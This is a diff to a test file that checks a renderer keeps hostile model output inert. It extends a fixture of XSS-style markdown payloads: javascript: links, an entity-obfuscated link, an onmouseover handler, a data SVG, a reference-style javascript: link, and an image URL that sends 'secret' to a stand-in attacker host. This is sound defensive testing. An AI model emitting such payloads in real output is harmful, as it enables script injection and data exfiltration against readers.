@@ -38,7 +38,8 @@ HOSTILE_ANSWER = (
     "[click](javascript:alert(3)) [entity](jav&#x61;script:alert(4)) <javascript:alert(5)>\n\n"
     "![](https://evil.example/pixel.png?d=secret) ![svg](data:image/svg+xml;base64,PHN2Zz4=)\n\n"
     '<div onmouseover="alert(6)">hover</div>\n\n'
-    "[safe](https://example.com/docs) and `<b>code</b>`"
+    "[safe](https://example.com/docs) and `<b>code</b>` and [by reference][r]\n\n"
+    "[r]: javascript:alert(7)"
 )
 SALES = (
     "import pandas as pd\n"
@@ -332,7 +333,8 @@ def test_the_models_html_links_and_remote_images_stay_inert(views: dict[str, Any
         # The remote image is a link the reader may follow, never a request made for them.
         assert "https://evil.example/pixel.png?d=secret" in hrefs
         assert not [t for t, _ in page.tags if t == "img"]  # nor the SVG
-        assert "<b>code</b>" in seen
+        assert "<b>code</b>" in seen and "by reference" in seen
+        assert "alert(7)" not in seen  # the definition is no link and never shows
     assert copy["text/plain"] == HOSTILE_ANSWER
 
 
